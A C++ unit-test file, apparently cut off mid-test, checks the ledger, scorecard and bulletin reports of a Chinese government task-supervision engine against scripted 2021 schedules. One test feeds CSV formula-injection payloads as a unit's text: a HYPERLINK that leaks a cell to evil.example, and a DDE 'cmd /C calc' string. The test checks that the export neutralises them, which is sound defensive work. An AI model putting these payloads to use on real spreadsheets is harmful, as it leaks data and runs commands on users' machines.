// The work ledger, the scorecard and the bulletin (engine/reports): their rows
// on scripted stores, checked against the engine's own queries (PlanAsOf,
// Assignments) and against values worked out by hand on the 2021 calendar; the
// bulletin's .docx body escaped; and the as-of property: for random command
// sequences and random dates D, each report as of D equals the report of a
// store that holds only the events effective up to the end of D.
#include <gtest/gtest.h>

#include <map>
#include <random>
#include <set>

#include "duban/core/workflow_timer_policy.h"
#include "duban/engine.h"
#include "duban/reports/bulletin.h"
#include "duban/reports/bulletin_files.h"
#include "duban/reports/cycle_reports.h"
#include "duban/reports/ledger.h"
#include "duban/reports/ledger_files.h"
#include "duban/reports/light.h"
#include "duban/reports/scorecard.h"
#include "duban/reports/scorecard_files.h"
#include "duban/schemas/codec.h"
#include "duban/xml_text.h"
#include "temp_dir.h"

namespace duban::reports {
namespace {

using namespace schemas;
using duban::testing::TempDir;

const std::string kFinance = "市财政局";
const std::string kEducation = "市教育局";
const std::string kPolice = "市公安局";
const std::string kHealth = "市卫健局";
const std::string kPlan = "p1";

Instant At(const std::string& day, int hour = 9) { return StartOfDay(*Date::Parse(day)) + int64_t{hour} * 3'600'000; }
Date D(const std::string& day) { return *Date::Parse(day); }
Actor Office() { return Actor{"督查室", Role::kSupervisor, "王五"}; }
Actor UnitOf(const std::string& unit) { return Actor{unit, Role::kUnit, unit + "联络员"}; }

std::shared_ptr<WorkflowTimerPolicy> Policy() {
  auto p = WorkflowTimerPolicy::Default();
  EXPECT_TRUE(p.ok()) << p.status().ToString();
  return *p;
}

std::unique_ptr<Engine> OpenStore(const std::string& dir, std::shared_ptr<WorkflowTimerPolicy> policy) {
  EngineOptions o;
  o.data_dir = dir;
  o.sync = false;
  auto e = Engine::Open(o, std::move(policy));
  EXPECT_TRUE(e.ok()) << e.status().ToString();
  return e.ok() ? std::move(e).value() : nullptr;
}

// Task 1 (一、公开) lead 财政, responsible 教育, due 2021-09-30; task 2 (一、公开)
// responsible 公安 and 卫健, due 2021-10-20; task 3 (二、保障) lead 财政, due
// 2021-11-15; task 4 (二、保障) responsible 教育, no due date.
ImportPlan SamplePlan(const std::string& cal) {
  ImportPlan p;
  p.plan = PlanImported{
      "2021年政务公开工作要点分工方案",        "市政府办公室", "府办〔2021〕7号", "2021-08-30", 2021, "digest",
      {kFinance, kEducation, kPolice, kHealth}};
  p.tasks.push_back(ImportTask{1,
                               {"一、公开"},
                               "推进决策公开",
                               "全面推进决策公开",
                               Deadline{"9月底前", "2021-09-30", "", false, cal},
                               {kFinance},
                               {kEducation}});
  p.tasks.push_back(ImportTask{2,
                               {"一、公开"},
                               "加强政策解读",
                               "加强政策解读",
                               Deadline{"10月20日前", "2021-10-20", "", false, cal},
                               {},
                               {kPolice, kHealth}});
  p.tasks.push_back(ImportTask{3,
                               {"二、保障"},
                               "强化督促检查",
                               "强化督促检查",
                               Deadline{"11月中旬前", "2021-11-15", "", false, cal},
                               {kFinance},
                               {}});
  p.tasks.push_back(ImportTask{
      4, {"二、保障"}, "建立工作台账", "建立工作台账", Deadline{"长期坚持", "", "", true, ""}, {}, {kEducation}});
  return p;
}

class LedgerTest : public ::testing::Test {
 protected:
  void SetUp() override {
    policy = Policy();
    engine = OpenStore(dir.path(), policy);
    ASSERT_TRUE(engine);
  }
  Outcome Send(Actor actor, Instant at, CommandBody body) {
    Command c;
    c.command_id = "c" + std::to_string(++n);
    c.plan_id = kPlan;
    c.actor = std::move(actor);
    c.issued_at = at;
    c.body = std::move(body);
    return engine->Submit(c);
  }
  void Expect(Actor actor, Instant at, CommandBody body) {
    Outcome o = Send(std::move(actor), at, std::move(body));
    ASSERT_TRUE(o.status.ok()) << o.status.ToString();
  }
  void TickThrough(const std::string& from, const std::string& to) {
    for (Date d = D(from); d <= D(to); d = d.AddDays(1)) ASSERT_TRUE(engine->Tick(StartOfDay(d)).ok());
  }
  const LedgerRow& Row(const Ledger& l, int32_t task, const std::string& unit) {
    for (const auto& r : l.rows)
      if (r.task == task && r.unit == unit) return r;
    ADD_FAILURE() << "no row for task " << task << " " << unit;
    static const LedgerRow kNone;
    return kNone;
  }

  TempDir dir{"duban-report-test"};
  std::shared_ptr<WorkflowTimerPolicy> policy;
  std::unique_ptr<Engine> engine;
  int n = 0;
};

// The scripted autumn: 财政 reports twice, submits and is approved on time;
// 教育 accepts task 1 and goes silent past 2021-09-30 (National Day: 10-01..07
// off, Saturday 10-09 worked), so it is missed on 10-08 and 督促整改 on 10-09.
class ScriptedLedgerTest : public LedgerTest {
 protected:
  void SetUp() override {
    LedgerTest::SetUp();
    ASSERT_TRUE(engine);
    Expect(Office(), At("2021-09-01"), SamplePlan(policy->latest_calendar().version()));
    TickThrough("2021-09-02", "2021-09-02");
    Expect(UnitOf(kFinance), At("2021-09-02", 10), Accept{1, kFinance});
    Expect(UnitOf(kEducation), At("2021-09-02", 11), Accept{1, kEducation});
    TickThrough("2021-09-03", "2021-09-15");
    Expect(UnitOf(kFinance), At("2021-09-15", 10),
           ReportProgress{1, kFinance, 40, "已完成初稿", "", "张三", "13800000001"});
    TickThrough("2021-09-16", "2021-09-20");
    Expect(UnitOf(kFinance), At("2021-09-20", 10),
           ReportProgress{1, kFinance, 80, "已报审", "", "李四", "13800000002"});
    TickThrough("2021-09-21", "2021-09-28");
    Expect(UnitOf(kFinance), At("2021-09-28", 10), Submit{1, kFinance, "已完成", ""});
    TickThrough("2021-09-29", "2021-09-29");
    Expect(Office(), At("2021-09-29", 10), Approve{1, kFinance, "同意销号"});
    TickThrough("2021-09-30", "2021-10-15");
  }
};

TEST_F(ScriptedLedgerTest, RowsAgreeWithThePlanAsOfTheDateForEveryDayOfTheScript) {
  for (Date d = D("2021-09-01"); d <= D("2021-10-15"); d = d.AddDays(1)) {
    auto l = LedgerAsOf(*engine, kPlan, d);
    ASSERT_TRUE(l.ok()) << d.ToString() << ": " << l.status().ToString();
    auto s = engine->PlanAsOf(kPlan, EndOfDay(d));
    ASSERT_TRUE(s.ok());
    ASSERT_EQ(l->rows.size(), s->assignments.size()) << d.ToString();
    for (const auto& r : l->rows) {
      const core::AssignmentState& a = s->assignments.at({r.task, r.unit});
      EXPECT_EQ(r.status, a.status) << d.ToString() << " " << r.task << r.unit;
      EXPECT_EQ(r.escalation_level, a.escalation_level) << d.ToString() << " " << r.task << r.unit;
      EXPECT_EQ(r.due_on, a.due_on);
      EXPECT_EQ(r.title, s->tasks.at(r.task).title);
    }
  }
}

TEST_F(ScriptedLedgerTest, TheLastDaysLedgerAgreesWithTheCurrentAssignmentsQuery) {
  auto l = LedgerAsOf(*engine, kPlan, D("2021-10-15"));
  ASSERT_TRUE(l.ok());
  StatusFilter f;
  f.plan_id = kPlan;
  auto rows = engine->Assignments(f);
  ASSERT_TRUE(rows.ok());
  ASSERT_EQ(l->rows.size(), rows->size());
  std::map<std::pair<int32_t, std::string>, const AssignmentRow*> now;
  for (const auto& r : *rows) now[{r.task, r.a.unit}] = &r;
  for (const auto& r : l->rows) {
    const AssignmentRow& q = *now.at({r.task, r.unit});
    EXPECT_EQ(r.status, q.a.status) << r.task << r.unit;
    EXPECT_EQ(r.escalation_level, q.a.escalation_level) << r.task << r.unit;
    EXPECT_EQ(r.deadline_text, q.deadline_text);
    EXPECT_EQ(r.title, q.task_title);
    // The percent of the last report (a completion sets the state's to 100, not the report's).
    if (q.a.reports && core::IsOpen(q.a.status) && q.a.status != core::AssignmentStatus::kSubmitted) {
      ASSERT_TRUE(r.percent.has_value());
      EXPECT_EQ(*r.percent, q.a.percent);
    }
  }
}

TEST_F(ScriptedLedgerTest, ProgressIsTheLastReportOnOrBeforeTheDate) {
  auto before = LedgerAsOf(*engine, kPlan, D("2021-09-14"));
  ASSERT_TRUE(before.ok());
  EXPECT_FALSE(Row(*before, 1, kFinance).percent.has_value());
  EXPECT_EQ(Row(*before, 1, kFinance).progress_text, "");
  EXPECT_EQ(Row(*before, 1, kFinance).status, core::AssignmentStatus::kAccepted);

  auto first = LedgerAsOf(*engine, kPlan, D("2021-09-19"));
  ASSERT_TRUE(first.ok());
  const LedgerRow& r1 = Row(*first, 1, kFinance);
  EXPECT_EQ(r1.progress_text, "已完成初稿");
  EXPECT_EQ(r1.percent, 40);
  EXPECT_EQ(r1.progress_on, "2021-09-15");
  EXPECT_EQ(r1.reporter, "张三");
  EXPECT_EQ(r1.contact, "13800000001");
  EXPECT_EQ(r1.status, core::AssignmentStatus::kInProgress);
  EXPECT_EQ(r1.submitted_on, "");

  auto done = LedgerAsOf(*engine, kPlan, D("2021-09-30"));
  ASSERT_TRUE(done.ok());
  const LedgerRow& r2 = Row(*done, 1, kFinance);
  EXPECT_EQ(r2.progress_text, "已报审");
  EXPECT_EQ(r2.percent, 80);
  EXPECT_EQ(r2.reporter, "李四");
  EXPECT_EQ(r2.submitted_on, "2021-09-28");
  EXPECT_EQ(r2.approved_on, "2021-09-29");
  EXPECT_EQ(r2.status, core::AssignmentStatus::kCompleted);
  EXPECT_EQ(r2.light, "done");
  EXPECT_EQ(r2.overdue_working_days, 0);
  EXPECT_STREQ(StatusChinese(r2.status), "已办结");
  // Submitted but not yet approved on the 28th: 待审核, no approval date.
  auto review = LedgerAsOf(*engine, kPlan, D("2021-09-28"));
  ASSERT_TRUE(review.ok());
  EXPECT_EQ(Row(*review, 1, kFinance).status, core::AssignmentStatus::kSubmitted);
  EXPECT_STREQ(StatusChinese(Row(*review, 1, kFinance).status), "待审核");
  EXPECT_EQ(Row(*review, 1, kFinance).approved_on, "");
}

TEST_F(ScriptedLedgerTest, ARowYearsLateSaysHowLateNotTheLightsCap) {
  // 2021-09-30 to 2024-01-02: a little over two years of working days (the
  // lights stop counting at kWorkingDayCountCap; the ledger must not).
  auto late = LedgerAsOf(*engine, kPlan, D("2024-01-02"));
  ASSERT_TRUE(late.ok()) << late.status().ToString();
  const int days = Row(*late, 1, kEducation).overdue_working_days;
  EXPECT_GT(days, reports::kWorkingDayCountCap);
  EXPECT_GE(days, 540);
  EXPECT_LE(days, 575);
}

TEST_F(ScriptedLedgerTest, OverdueWorkingDaysAndEscalationCountOnTheStatutoryCalendar) {
  // 09-30 is the due date itself: not yet late, and due today: yellow.
  auto due = LedgerAsOf(*engine, kPlan, D("2021-09-30"));
  ASSERT_TRUE(due.ok());
  EXPECT_EQ(Row(*due, 1, kEducation).overdue_working_days, 0);
  EXPECT_EQ(Row(*due, 1, kEducation).light, "yellow");
  // The holiday 10-01..07 is no working day: on 10-07 nothing counts yet.
  auto holiday = LedgerAsOf(*engine, kPlan, D("2021-10-07"));
  ASSERT_TRUE(holiday.ok());
  EXPECT_EQ(Row(*holiday, 1, kEducation).overdue_working_days, 0);
  EXPECT_EQ(Row(*holiday, 1, kEducation).escalation_level, 0);
  auto missed = LedgerAsOf(*engine, kPlan, D("2021-10-08"));
  ASSERT_TRUE(missed.ok());
  EXPECT_EQ(Row(*missed, 1, kEducation).overdue_working_days, 1);
  EXPECT_EQ(Row(*missed, 1, kEducation).light, "red");
  EXPECT_EQ(Row(*missed, 1, kEducation).escalation_level, 0);
  // Saturday 10-09 is a worked day: the second working day late, and 督促整改.
  auto escalated = LedgerAsOf(*engine, kPlan, D("2021-10-09"));
  ASSERT_TRUE(escalated.ok());
  const LedgerRow& r = Row(*escalated, 1, kEducation);
  EXPECT_EQ(r.overdue_working_days, 2);
  EXPECT_EQ(r.escalation_level, 1);
  EXPECT_EQ(r.escalation_step, "督促整改");
  // Sunday 10-10 is a rest day: still two.
  auto sunday = LedgerAsOf(*engine, kPlan, D("2021-10-10"));
  ASSERT_TRUE(sunday.ok());
  EXPECT_EQ(Row(*sunday, 1, kEducation).overdue_working_days, 2);
}

TEST_F(ScriptedLedgerTest, RowsCarryTheTasksUnitsByRoleSectionAndOrder) {
  auto l = LedgerAsOf(*engine, kPlan, D("2021-10-01"));
  ASSERT_TRUE(l.ok());
  EXPECT_EQ(l->plan_title, "2021年政务公开工作要点分工方案");
  ASSERT_EQ(l->rows.size(), 6u);
  // By task, lead before responsible.
  EXPECT_EQ(l->rows[0].unit, kFinance);
  EXPECT_EQ(l->rows[0].role, AssignmentRole::kLead);
  EXPECT_EQ(l->rows[1].unit, kEducation);
  for (const auto& r : l->rows) {
    if (r.task == 1) {
      EXPECT_EQ(r.lead_units, std::vector<std::string>{kFinance});
      EXPECT_EQ(r.responsible_units, std::vector<std::string>{kEducation});
      EXPECT_EQ(r.section, std::vector<std::string>{"一、公开"});
      EXPECT_EQ(r.deadline_text, "9月底前");
    }
    if (r.task == 2) {
      EXPECT_EQ(r.responsible_units.size(), 2u);
    }
    if (r.task == 4) {
      // No due date, but never accepted: the acceptance limit (3 working days) has passed.
      EXPECT_EQ(r.due_on, "");
      EXPECT_EQ(r.status, core::AssignmentStatus::kAssigned);
      EXPECT_EQ(r.light, "red");
      EXPECT_EQ(r.overdue_working_days, 0);
    }
  }
}

TEST_F(ScriptedLedgerTest, OneUnitsLedgerHoldsOnlyItsRows) {
  auto l = LedgerAsOf(*engine, kPlan, D("2021-10-09"), kEducation);
  ASSERT_TRUE(l.ok());
  ASSERT_EQ(l->rows.size(), 2u);
  for (const auto& r : l->rows) EXPECT_EQ(r.unit, kEducation);
  auto none = LedgerAsOf(*engine, kPlan, D("2021-10-09"), "市外办");
  EXPECT_EQ(none.status().code(), Status::Code::kNotFound);
}

TEST_F(ScriptedLedgerTest, ADateBeforeThePlanWasImportedIsAClearError) {
  auto l = LedgerAsOf(*engine, kPlan, D("2021-08-31"));
  ASSERT_FALSE(l.ok());
  EXPECT_EQ(l.status().code(), Status::Code::kNotFound);
  EXPECT_NE(l.status().message().find("did not exist on 2021-08-31"), std::string::npos) << l.status().message();
  auto other = LedgerAsOf(*engine, "no-such-plan", D("2021-10-01"));
  EXPECT_EQ(other.status().code(), Status::Code::kNotFound);
  // The import day itself is fine.
  EXPECT_TRUE(LedgerAsOf(*engine, kPlan, D("2021-09-01")).ok());
}

TEST_F(ScriptedLedgerTest, CsvHasABomTheHeadersAndOneLinePerRow) {
  auto l = LedgerAsOf(*engine, kPlan, D("2021-10-09"));
  ASSERT_TRUE(l.ok());
  const std::string csv = LedgerCsv(*l);
  ASSERT_EQ(csv.substr(0, 3), "\xEF\xBB\xBF");
  size_t lines = 0;
  for (size_t p = 0; (p = csv.find("\r\n", p)) != std::string::npos; p += 2) ++lines;
  EXPECT_EQ(lines, l->rows.size() + 1);
  EXPECT_EQ(csv.substr(3, csv.find("\r\n") - 3).find("序号,所属部分,工作任务,牵头单位,责任单位,落实单位"), 0u);
}

TEST_F(ScriptedLedgerTest, AUnitsTextNeverBecomesAFormulaInTheCsv) {
  Expect(UnitOf(kEducation), At("2021-10-16", 10),
         ReportProgress{1, kEducation, 30, "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")", "",
                        "@SUM(1+1)*cmd|' /C calc'!A0", "+1-2"});
  auto l = LedgerAsOf(*engine, kPlan, D("2021-10-16"));
  ASSERT_TRUE(l.ok());
  const std::string csv = LedgerCsv(*l);
  // Each formula-looking cell starts with an apostrophe, inside its quotes if quoted.
  EXPECT_NE(csv.find("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1"), std::string::npos) << csv;
  EXPECT_NE(csv.find(",'@SUM(1+1)*cmd|' /C calc'!A0,"), std::string::npos) << csv;
  EXPECT_NE(csv.find(",'+1-2,"), std::string::npos) << csv;
  for (const char* bad : {",=", ",@", ",+", ",-", ",\"=", ",\"@"}) EXPECT_EQ(csv.find(bad), std::string::npos) << bad;
  // The xlsx and json keep the text as it was written.
  EXPECT_EQ(Row(*l, 1, kEducation).contact, "+1-2");
}

// ---- the scorecard ------------------------------------------------------

const UnitScore& ScoreOf(const Scorecard& c, const std::string& unit) {
  for (const auto& u : c.units)
    if (u.unit == unit) return u;
  ADD_FAILURE() << "no unit " << unit;
  static const UnitScore kNone;
  return kNone;
}

TEST_F(ScriptedLedgerTest, TheScorecardCountsEachUnitAndScoresByTheDefinitionsRule) {
  auto rule = workflows::ScorecardRule::Default();
  ASSERT_TRUE(rule.ok()) << rule.status().ToString();
  // The compiled-in rule: 60 + 30 on_time_rate + 10 completion_rate - 2 overdue - 5 peak_escalation.
  auto card = ScorecardAsOf(*engine, kPlan, D("2021-10-09"), *rule);
  ASSERT_TRUE(card.ok()) << card.status().ToString();
  ASSERT_EQ(card->units.size(), 4u);
  const UnitScore& fin = ScoreOf(*card, kFinance);
  EXPECT_EQ(fin.assignments, 2);
  EXPECT_EQ(fin.completed, 1);
  EXPECT_EQ(fin.completed_on_time, 1);
  EXPECT_EQ(fin.completed_late, 0);
  EXPECT_EQ(fin.overdue, 0);
  EXPECT_EQ(fin.progress_reports, 2);
  EXPECT_DOUBLE_EQ(fin.on_time_rate, 0.5);
  EXPECT_DOUBLE_EQ(fin.score, 60 + 15 + 5);
  const UnitScore& edu = ScoreOf(*card, kEducation);
  EXPECT_EQ(edu.assignments, 2);
  EXPECT_EQ(edu.completed, 0);
  EXPECT_EQ(edu.overdue, 1);
  EXPECT_EQ(edu.peak_escalation, 1);
  EXPECT_DOUBLE_EQ(edu.score, 60 - 2 - 5);
  EXPECT_DOUBLE_EQ(ScoreOf(*card, kPolice).score, 60);
  // Best first.
  EXPECT_EQ(card->units.front().unit, kFinance);
  EXPECT_EQ(card->units.back().unit, kEducation);
  // Reminders: the DeadlineApproaching events of the unit up to the date, counted from the history.
  int reminders = 0;
  for (int task : {1, 3}) {
    auto h = engine->History(kPlan, task);
    ASSERT_TRUE(h.ok());
    for (const auto& e : *h)
      if (auto* b = std::get_if<DeadlineApproaching>(&e.event.body);
          b && b->unit == kFinance && e.event.occurred_at <= EndOfDay(D("2021-10-09")))
        ++reminders;
  }
  EXPECT_GT(reminders, 0);
  EXPECT_EQ(fin.reminders, reminders);
  // The peak stays after the level is cleared or the step passes: 通报批评 on 10-15 (5 working days after 10-09).
  auto later = ScorecardAsOf(*engine, kPlan, D("2021-10-15"), *rule);
  ASSERT_TRUE(later.ok());
  EXPECT_EQ(ScoreOf(*later, kEducation).peak_escalation, 2);
}

// Reports asked in a review cycle, per unit, as of a date: 财政 answers both
// its requests on time, 公安 after the due date, 卫健 and 教育 never (missing
// once the clock records them overdue, not before).
TEST_F(LedgerTest, TheScorecardCountsCycleReportsOnTimeLateAndMissingAsOfTheDate) {
  Expect(Office(), At("2021-09-01"), SamplePlan(policy->latest_calendar().version()));
  Expect(Office(), At("2021-09-01", 10), StartReviewCycle{"Q3", "", "monthly", "2021-09-10", ""});
  Expect(UnitOf(kFinance), At("2021-09-02", 10), Accept{1, kFinance});
  Expect(UnitOf(kFinance), At("2021-09-02", 10), Accept{3, kFinance});
  Expect(UnitOf(kPolice), At("2021-09-02", 10), Accept{2, kPolice});
  Expect(UnitOf(kFinance), At("2021-09-08", 10), ReportProgress{1, kFinance, 30, "按时", "", "", ""});
  Expect(UnitOf(kFinance), At("2021-09-09", 10), ReportProgress{3, kFinance, 10, "按时", "", "", ""});
  TickThrough("2021-09-02", "2021-09-13");
  Expect(UnitOf(kPolice), At("2021-09-13", 10), ReportProgress{2, kPolice, 20, "迟报", "", "", ""});
  TickThrough("2021-09-14", "2021-09-20");
  auto rule = workflows::ScorecardRule::FromDefinition(
      "scorecard:\n  base: 50\n  weights: {reports_on_time: 10, reports_late: -3, reports_missing: -7}\n", "o.yaml");
  ASSERT_TRUE(rule.ok()) << rule.status().ToString();
  auto before = ScorecardAsOf(*engine, kPlan, D("2021-09-09"), *rule);
  ASSERT_TRUE(before.ok()) << before.status().ToString();
  EXPECT_EQ(ScoreOf(*before, kFinance).reports_on_time, 2);
  for (const std::string& unit : {kPolice, kHealth, kEducation}) {
    const UnitScore& u = ScoreOf(*before, unit);
    EXPECT_EQ(u.reports_on_time + u.reports_late + u.reports_missing, 0) << unit << ": nothing due yet on 09-09";
  }
  auto after = ScorecardAsOf(*engine, kPlan, D("2021-09-20"), *rule);
  ASSERT_TRUE(after.ok());
  const UnitScore& fin = ScoreOf(*after, kFinance);
  EXPECT_EQ(std::tie(fin.reports_on_time, fin.reports_late, fin.reports_missing), std::make_tuple(2, 0, 0));
  const UnitScore& pol = ScoreOf(*after, kPolice);
  EXPECT_EQ(std::tie(pol.reports_on_time, pol.reports_late, pol.reports_missing), std::make_tuple(0, 1, 0));
  const UnitScore& edu = ScoreOf(*after, kEducation);
  EXPECT_EQ(edu.reports_on_time + edu.reports_late, 0);
  EXPECT_EQ(edu.reports_missing, 2) << "asked for tasks 1 and 4, answered neither";
  EXPECT_EQ(ScoreOf(*after, kHealth).reports_missing, 1);
  EXPECT_DOUBLE_EQ(fin.score, 70);
  EXPECT_DOUBLE_EQ(pol.score, 47);
  EXPECT_DOUBLE_EQ(edu.score, 36);
  // The dashboard's columns come from the same counts of the current state.
  auto now = engine->Plan(kPlan);
  ASSERT_TRUE(now.ok());
  const auto counts = CycleReportsByUnit(*now, D("2021-09-20"));
  EXPECT_EQ(counts.at(kPolice), (CycleReports{0, 1, 0}));
  EXPECT_EQ(counts.at(kEducation), (CycleReports{0, 0, 2}));
}

TEST(ScorecardMeasures, TheScoreAndTheJsonWeighWhatADefinitionMayName) {
  std::vector<std::string> names;
  for (const UnitMeasure& m : UnitMeasures()) {
    names.push_back(m.name);
    EXPECT_NE(m.count == nullptr, m.rate == nullptr) << m.name << ": a count or a rate";
  }
  EXPECT_EQ(names, workflows::ScorecardRule::Measures());
}

TEST_F(ScriptedLedgerTest, AnOfficesOwnRuleWeightsTheScore) {
  auto rule = workflows::ScorecardRule::FromDefinition(
      "name: x\nscorecard:\n  base: 0\n  weights: {completed: 10, progress_reports: 1}\n  max: 1000\n", "office.yaml");
  ASSERT_TRUE(rule.ok()) << rule.status().ToString();
  auto card = ScorecardAsOf(*engine, kPlan, D("2021-10-09"), *rule);
  ASSERT_TRUE(card.ok());
  EXPECT_DOUBLE_EQ(ScoreOf(*card, kFinance).score, 12);
  EXPECT_DOUBLE_EQ(ScoreOf(*card, kEducation).score, 0);
  auto bad = workflows::ScorecardRule::FromDefinition("scorecard:\n  weights: {speed: 1}\n", "office.yaml");
  ASSERT_FALSE(bad.ok());
  EXPECT_NE(bad.status().message().find("office.yaml:2"), std::string::npos) << bad.status().message();
  EXPECT_NE(bad.status().message().find("unknown scorecard measure 'speed'"), std::string::npos);
  // The engine's definition loader refuses the same file.
  EXPECT_FALSE(workflows::WorkflowDefinition::Parse("scorecard:\n  weights: {speed: 1}\n", "office.yaml").ok());
}

TEST_F(ScriptedLedgerTest, AScorecardBeforeThePlanExistedIsAClearError) {
  auto card = ScorecardAsOf(*engine, kPlan, D("2021-08-31"), workflows::ScorecardRule{});
  ASSERT_FALSE(card.ok());
  EXPECT_NE(card.status().message().find("did not exist on 2021-08-31"), std::string::npos);
}

// ---- the bulletin ---------------------------------------------------------

// The autumn of the bulletin: every unit accepts; a quarterly review cycle
// asks for reports by 2021-09-29; 财政 answers on time and finishes tasks 1
// and 3 on time, 卫健 answers a day late and finishes task 2 on time; 教育
// (task 1, due 09-30) and 公安 (task 2, due 10-20) stay silent and late.
class BulletinTest : public LedgerTest {
 protected:
  void SetUp() override {
    LedgerTest::SetUp();
    ASSERT_TRUE(engine);
    Expect(Office(), At("2021-09-01"), SamplePlan(policy->latest_calendar().version()));
    TickThrough("2021-09-02", "2021-09-02");
    Expect(UnitOf(kFinance), At("2021-09-02", 10), Accept{1, kFinance});
    Expect(UnitOf(kFinance), At("2021-09-02", 10), Accept{3, kFinance});
    Expect(UnitOf(kEducation), At("2021-09-02", 11), Accept{1, kEducation});
    Expect(UnitOf(kHealth), At("2021-09-02", 11), Accept{2, kHealth});
    Expect(UnitOf(kPolice), At("2021-09-02", 12), Accept{2, kPolice});
    TickThrough("2021-09-03", "2021-09-27");
    Expect(Office(), At("2021-09-27", 10), StartReviewCycle{"2021-q3", "", "quarterly", "2021-09-29", ""});
    Expect(UnitOf(kFinance), At("2021-09-28", 10),
           ReportProgress{1, kFinance, 90, "已报审", "", "张三", "13800000001"});
    Expect(UnitOf(kFinance), At("2021-09-28", 11),
           ReportProgress{3, kFinance, 50, "推进中", "", "张三", "13800000001"});
    Expect(UnitOf(kFinance), At("2021-09-28", 15), Submit{1, kFinance, "已完成", ""});
    TickThrough("2021-09-28", "2021-09-29");
    Expect(Office(), At("2021-09-29", 10), Approve{1, kFinance, "同意销号"});
    TickThrough("2021-09-30", "2021-09-30");
    Expect(UnitOf(kHealth), At("2021-09-30", 10), ReportProgress{2, kHealth, 60, "推进中", "", "赵六", "13800000003"});
    TickThrough("2021-10-01", "2021-10-12");
    Expect(UnitOf(kFinance), At("2021-10-12", 10), Submit{3, kFinance, "已完成", ""});
    TickThrough("2021-10-13", "2021-10-13");
    Expect(Office(), At("2021-10-13", 10), Approve{3, kFinance, "同意销号"});
    TickThrough("2021-10-14", "2021-10-18");
    Expect(UnitOf(kHealth), At("2021-10-18", 10), Submit{2, kHealth, "已完成", ""});
    TickThrough("2021-10-19", "2021-10-19");
    Expect(Office(), At("2021-10-19", 10), Approve{2, kHealth, "同意销号"});
    TickThrough("2021-10-20", "2021-11-05");
  }
  const BulletinUnit* Find(const std::vector<BulletinGroup>& groups, const std::string& unit, int32_t* level) {
    for (const auto& g : groups)
      for (const auto& u : g.units)
        if (u.unit == unit) {
          *level = g.level;
          return &u;
        }
    return nullptr;
  }
};

TEST_F(BulletinTest, GroupsAndCountsAgreeWithTheEnginesQueriesOnEveryDay) {
  for (Date d = D("2021-09-01"); d <= D("2021-11-05"); d = d.AddDays(1)) {
    const std::string day = d.ToString();
    auto b = BulletinAsOf(*engine, kPlan, d);
    ASSERT_TRUE(b.ok()) << day << ": " << b.status().ToString();
    auto s = engine->PlanAsOf(kPlan, EndOfDay(d));
    ASSERT_TRUE(s.ok());
    // Late: what the engine's clock marked overdue (DeadlineMissed), still open and not submitted, at its level.
    std::map<std::pair<std::string, int32_t>, int32_t> want_late, got_late;
    std::map<std::string, int32_t> want_unit_level;
    int32_t completed = 0;
    for (const auto& [k, a] : s->assignments) {
      completed += a.status == core::AssignmentStatus::kCompleted;
      if (!a.overdue || !core::IsOpen(a.status) || a.status == core::AssignmentStatus::kSubmitted) continue;
      want_late[{a.unit, k.first}] = a.escalation_level;
      want_unit_level[a.unit] = std::max(want_unit_level[a.unit], a.escalation_level);
    }
    int32_t late_tasks = 0;
    for (const auto& g : b->late)
      for (const auto& u : g.units) {
        ASSERT_TRUE(want_unit_level.count(u.unit)) << day << " " << u.unit;
        EXPECT_EQ(g.level, want_unit_level.at(u.unit)) << day << " " << u.unit;
        EXPECT_EQ(u.level, g.level) << day;
        for (const auto& t : u.tasks) {
          got_late[{u.unit, t.task}] = t.level;
          EXPECT_GT(t.overdue_working_days, 0) << day;
          EXPECT_EQ(t.title, s->tasks.at(t.task).title);
          EXPECT_EQ(t.due_on, s->assignments.at({t.task, u.unit}).due_on);
          ++late_tasks;
        }
      }
    EXPECT_EQ(got_late, want_late) << day;
    EXPECT_EQ(b->late_assignments, late_tasks) << day;
    EXPECT_EQ(b->late_units, static_cast<int32_t>(want_unit_level.size())) << day;
    EXPECT_EQ(b->completed, completed) << day;
    EXPECT_EQ(b->assignments, static_cast<int32_t>(s->assignments.size())) << day;
    // Silent: every request the clock found unanswered (ReportOverdue) and still unanswered at the end of
    // the day is named, at its level (卫健 answers on 09-30, after the clock's mark: answered late, not
    // silent); and only requests of a cycle already due, unanswered.
    std::map<std::pair<std::string, int32_t>, int32_t> marked, got_silent;
    std::set<std::string> answered_late;
    for (const auto& [id, c] : s->cycles) {
      for (const auto& [k, level] : c.overdue)
        if (!c.answered.count(k)) marked[{k.second, k.first}] = level;
      for (const auto& k : c.late) answered_late.insert(k.second);
    }
    std::set<std::string> got_answered_late;
    for (const auto& r : b->answered_late) got_answered_late.insert(r.unit);
    EXPECT_EQ(got_answered_late, answered_late) << day;
    for (const auto& g : b->silent)
      for (const auto& u : g.units)
        for (const auto& t : u.tasks) {
          got_silent[{u.unit, t.task}] = t.level;
          const core::CycleState& c = s->cycles.at(t.cycle);
          EXPECT_TRUE(c.requested.count({t.task, u.unit})) << day;
          EXPECT_FALSE(c.answered.count({t.task, u.unit})) << day;
          EXPECT_LT(c.due_on, day);
          EXPECT_EQ(t.cycle_kind, "quarterly");
        }
    for (const auto& [k, level] : marked) {
      ASSERT_TRUE(got_silent.count(k)) << day << " " << k.first << " " << k.second;
      EXPECT_EQ(got_silent[k], level) << day;
    }
    // On time: every assignment of the unit completed, submitted by its due date, as the scorecard counts.
    auto card = ScorecardAsOf(*engine, kPlan, d, workflows::ScorecardRule{});
    ASSERT_TRUE(card.ok());
    std::vector<std::string> want_on_time, got_on_time;
    for (const auto& u : card->units)
      if (u.assignments > 0 && u.completed_on_time == u.assignments) want_on_time.push_back(u.unit);
    std::sort(want_on_time.begin(), want_on_time.end());
    for (const auto& u : b->on_time) got_on_time.push_back(u.unit);
    EXPECT_EQ(got_on_time, want_on_time) << day;
  }
}

TEST_F(BulletinTest, UnitsAreNamedUnderTheDefinitionsLevelsWithTheirTasks) {
  auto b = BulletinAsOf(*engine, kPlan, D("2021-11-05"));
  ASSERT_TRUE(b.ok()) << b.status().ToString();
  EXPECT_EQ(b->Title(), "关于2021年政务公开工作要点分工方案落实情况的通报");
  EXPECT_EQ(b->tasks, 4);
  EXPECT_EQ(b->units, 4);
  EXPECT_EQ(b->assignments, 6);
  EXPECT_EQ(b->completed, 3);
  EXPECT_EQ(b->completed_on_time, 3);
  // The ladder of the compiled-in definition, in its order.
  ASSERT_EQ(b->late.size(), 3u);
  EXPECT_EQ(b->late[0].name, "督促整改");
  EXPECT_EQ(b->late[1].name, "通报批评");
  EXPECT_EQ(b->late[2].name, "约谈");
